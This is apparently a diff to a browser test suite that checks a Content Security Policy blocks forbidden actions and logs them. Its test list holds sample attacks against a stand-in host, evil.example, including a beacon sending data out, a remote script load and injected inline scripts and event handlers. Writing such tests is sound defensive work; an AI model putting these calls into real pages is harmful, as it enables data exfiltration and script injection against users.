@@ -18,7 +18,7 @@ const FORBIDDEN = [
   ['a beacon', 'connect-src', () => navigator.sendBeacon('https://evil.example/', 'x')],
   ['a web socket', 'connect-src', () => { try { new WebSocket('wss://evil.example/'); } catch { /* Told by the report. */ } }],
   ['a picture of another host', 'img-src', () => (new Image().src = 'https://evil.example/x.png')],
-  ['an inline script', 'script-src-elem', () => { const script = document.createElement('script'); script.append('window.hacked = 1'); document.body.append(script); }],
+  ['an inline script', 'script-src-elem', () => { const script = document.createElement('script'); script.textContent = 'window.hacked = 1'; document.body.append(script); }],
   ['a script of another host', 'script-src-elem', () => document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))],
   ['an event handler', 'script-src-attr', () => { const text = document.body.appendChild(document.createElement('p')); text.setAttribute('class', 'x'); text.setAttribute('onclick', 'window.hacked = 1'); text.click(); }],
   // Later: what a debugger evaluates may use eval.
@@ -37,9 +37,12 @@ for (const [what, directive, act] of FORBIDDEN) {
     const told = [];
     page.on('console', (message) => told.push(message.text()));
     await open(page);
-    await page.evaluate(act);
+    // Trusted Types refuse some of it before the other directives are asked.
+    await page.evaluate(act).catch((error) => expect(error.message).toContain('requires'));
     // The same line that fails a test which does not expect it.
-    await expect.poll(() => told.filter((line) => line.startsWith('policy: '))).toEqual([expect.stringContaining(directive)]);
+    const lines = () => told.filter((line) => line.startsWith('policy: '));
+    await expect.poll(lines).not.toEqual([]);
+    for (const line of lines()) expect(line).toMatch(new RegExp(`^policy: (${directive}|require-trusted-types-for)`));
     expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
   });
 }
